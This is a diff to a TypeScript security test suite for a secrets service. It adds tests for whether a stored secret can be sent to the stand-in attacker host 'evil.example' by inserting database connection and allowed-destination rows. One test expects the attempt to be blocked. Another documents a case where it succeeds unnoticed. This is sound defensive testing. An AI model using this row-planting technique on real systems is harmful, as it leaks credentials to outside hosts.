@@ -106,6 +106,34 @@ async function read(name: string, by = token, query = "") {
   return [answer.statusCode, answer.json().value ?? answer.json().error.code];
 }
 
+/** A connection with the secret as its password, to a host of the attacker's: web may write these rows. */
+async function connect(): Promise<string> {
+  const id = `c-${randomUUID()}`;
+  const properties = {
+    server: "evil.example",
+    port: "5432",
+    database: "d",
+    username: "u",
+    tlsMode: "verify-full",
+  };
+  await sql.web.query(
+    `INSERT INTO connection (id, "fabricId", name, "nameKey", kind, properties, "configHash", "createdById", "createdByName", "updatedById", "updatedByName")
+     VALUES ($1, $2, $1, $1, 'postgres', $3, 'x', 'x', 'x', 'x', 'x')`,
+    [id, ours.fabricId, properties],
+  );
+  await sql.web.query(
+    `INSERT INTO connection_secret ("connectionId", field, "secretId", "fabricId") VALUES ($1, 'password', $2, $3)`,
+    [id, secret, ours.fabricId],
+  );
+  return id;
+}
+
+async function readConnection(name: string) {
+  const headers = { authorization: `Bearer ${token}` };
+  const answer = await app.inject({ url: `/v1/connections/${name}`, headers });
+  return [answer.statusCode, answer.json().properties?.password ?? answer.json().error.code];
+}
+
 const sealedAt = `SELECT sealed FROM secret_field WHERE "secretId" = $1 AND version = $2`;
 
 describe("is noticed, and nothing is handed out:", () => {
@@ -152,6 +180,10 @@ describe("is noticed, and nothing is handed out:", () => {
     );
     const [status] = await read(name, await mint(a, a.admin.id));
     expect(status).toBe(500);
+  });
+
+  test("a connection with its reference and no allowed destination", async () => {
+    expect(await readConnection(await connect())).toEqual([409, "destination_not_allowed"]);
   });
 
   test("a public key of the attacker's, and one of another fabric: nothing is sealed to them", async () => {
@@ -232,6 +264,21 @@ describe("is not noticed:", () => {
           [randomUUID(), ours.fabricId, tokenHash],
         ),
       gains: () => read(secret, ownToken),
+      expected: [200, current],
+    },
+    {
+      title: "an allowed destination: a pipeline takes the value to the attacker's host",
+      by: "owner",
+      write: (client) =>
+        client.query(
+          `INSERT INTO allowed_destination (id, "fabricId", "secretId", version, destination, "createdById", "createdByName")
+           VALUES ($1, $2, $3, 2, 'postgres://evil.example:5432?tls=verify-full', 'x', 'x')`,
+          [randomUUID(), ours.fabricId, secret],
+        ),
+      gains: async () => {
+        const name = await connect();
+        return readConnection(name);
+      },
       expected: [200, current],
     },
     {
